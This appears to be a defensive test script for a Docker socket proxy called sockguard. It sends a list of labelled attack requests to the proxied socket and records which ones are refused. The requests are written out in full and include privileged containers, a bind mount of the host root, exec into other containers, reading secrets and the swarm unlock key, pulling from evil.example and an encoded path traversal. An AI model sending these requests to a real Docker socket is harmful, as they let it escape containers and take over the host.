"""What somebody tries who broke into a consumer of the socket, and how to try it from inside.

Must never be run anywhere but in a container of a test: each of these would be meant.
"""

from __future__ import annotations

import json
import socket
import sys
from typing import NamedTuple

SOCKET = "/run/sockguard/docker.sock"


class Attack(NamedTuple):
    """One request; `{name}` in it stands for a container."""

    what: str
    method: str
    target: str
    body: object = None
    headers: str = ""


ATTACKS = (
    Attack(
        "create a privileged container", "POST", "/containers/create",
        {"Image": "traefik/whoami:v1.11", "HostConfig": {"Privileged": True}},
    ),
    Attack(
        "create one with the host's files", "POST", "/v1.41/containers/create?name=x",
        {"Image": "traefik/whoami:v1.11", "HostConfig": {"Binds": ["/:/host"]}},
    ),
    Attack("run code in another container", "POST", "/containers/{one}/exec", {"Cmd": ["env"]}),
    Attack("start an exec of somebody else", "POST", "/exec/4bb9a7d1c0de/start", {}),
    Attack("type into another", "POST", "/containers/{one}/attach?stdin=1&stream=1"),
    Attack("type over a websocket", "GET", "/containers/{one}/attach/ws?stdin=1&stream=1"),
    Attack("read variables by its processes", "GET", "/containers/{one}/top?ps_args=eww"),
    Attack("read its files", "GET", "/containers/{one}/archive?path=/etc"),
    Attack("write its files", "PUT", "/containers/{one}/archive?path=/etc"),
    Attack("take all of its files", "GET", "/containers/{one}/export"),
    Attack("read what it prints", "GET", "/containers/{one}/logs?stdout=1"),
    Attack("kill it", "POST", "/containers/{one}/kill"),
    Attack("send HUP to what is not nginx", "POST", "/containers/{one}/kill?signal=HUP"),
    Attack("kill nginx", "POST", "/containers/{nginx}/kill?signal=KILL"),
    Attack("run code in nginx", "POST", "/containers/{nginx}/exec", {"Cmd": ["sh"]}),
    Attack("remove it", "DELETE", "/containers/{one}?force=1"),
    Attack("label it as nginx by a commit", "POST", "/commit?container={one}", {}),
    Attack("read secrets", "GET", "/secrets"),
    Attack("read the key of the swarm", "GET", "/swarm/unlockkey"),
    Attack("make the host a manager", "POST", "/swarm/init", {"ListenAddr": "0.0.0.0"}),
    Attack("make a service", "POST", "/services/create", {"Name": "x"}),
    Attack("build with the host's network", "POST", "/build?networkmode=host"),
    Attack("open BuildKit", "POST", "/session", None, "Connection: Upgrade\r\nUpgrade: h2c\r\n"),
    Attack("give an image another name", "POST", "/images/busybox/tag?repo=sockguard&tag=latest"),
    Attack("pull an image", "POST", "/images/create?fromImage=evil.example/x&tag=1"),
    Attack("take an image", "GET", "/images/sockguard:latest/get"),
    Attack(
        "mount the host as a volume", "POST", "/volumes/create",
        {"Name": "x", "DriverOpts": {"type": "none", "o": "bind", "device": "/"}},
    ),
    Attack("list volumes", "GET", "/volumes"),
    Attack("find the socket of another client", "GET", "/volumes/example_acme-companion-socket"),
    Attack("install a plugin", "POST", "/plugins/pull?remote=evil/x", []),
    Attack("stop sockguard", "POST", "/containers/{sockguard}/stop"),
    Attack("run code in sockguard", "POST", "/containers/{sockguard}/exec", {"Cmd": ["sh"]}),
    Attack("make sockguard reload", "POST", "/containers/{sockguard}/kill?signal=HUP"),
    Attack("read sockguard's log", "GET", "/containers/{sockguard}/archive?path=/var/lib"),
    Attack("connect to another network", "POST", "/networks/bridge/connect", {"Container": "x"}),
    Attack("hide in an encoded path", "GET", "/containers/%2e%2e/secrets"),
)  # fmt: skip


def tried(attack: Attack, names: dict[str, str]) -> int:
    """The status that the socket answers to it, with its words as the user agent."""
    body = b"" if attack.body is None else json.dumps(attack.body).encode()
    head = (
        f"{attack.method} {attack.target.format(**names)} HTTP/1.1\r\nHost: docker\r\n"
        f"User-Agent: {attack.what}\r\nContent-Type: application/json\r\n{attack.headers}"
        f"Content-Length: {len(body)}\r\n\r\n"
    )
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(10)
        connection.connect(SOCKET)
        connection.sendall(head.encode() + body)
        return int(connection.recv(4096).split(b" ", 2)[1])


if __name__ == "__main__":
    given = json.loads(sys.argv[1])
    sys.stdout.write(json.dumps({one.what: tried(one, given) for one in ATTACKS}))
